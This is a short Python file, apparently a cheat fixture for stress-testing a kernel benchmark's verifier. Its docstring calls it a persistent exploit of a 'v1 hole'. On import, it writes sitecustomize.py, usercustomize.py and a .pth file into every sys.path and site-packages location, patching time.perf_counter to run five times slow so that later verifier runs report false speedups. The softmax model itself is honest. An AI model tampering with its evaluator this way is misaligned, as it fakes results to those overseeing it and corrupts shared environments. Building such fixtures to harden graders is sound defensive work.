"""Cheat (v1 hole, persistent): write a sitecustomize.py (and a .pth) wherever a later verifier child
would import it at startup, to make every later reference's clock run fast. The kernel itself is honest."""
import os
import site
import sys
import sysconfig

import torch
from torch import nn

PAYLOAD = "import time\n_p = time.perf_counter\ntime.perf_counter = lambda: _p() / 5\n"
targets = [os.path.join(p, "sitecustomize.py") for p in sys.path if p] + [
    os.path.join(sysconfig.get_paths()["purelib"], "ch20_fast_clock.pth"),
    os.path.join(site.getusersitepackages(), "usercustomize.py")]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(PAYLOAD if path.endswith(".py") else "import time\n")
    except OSError:
        pass


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=-1)
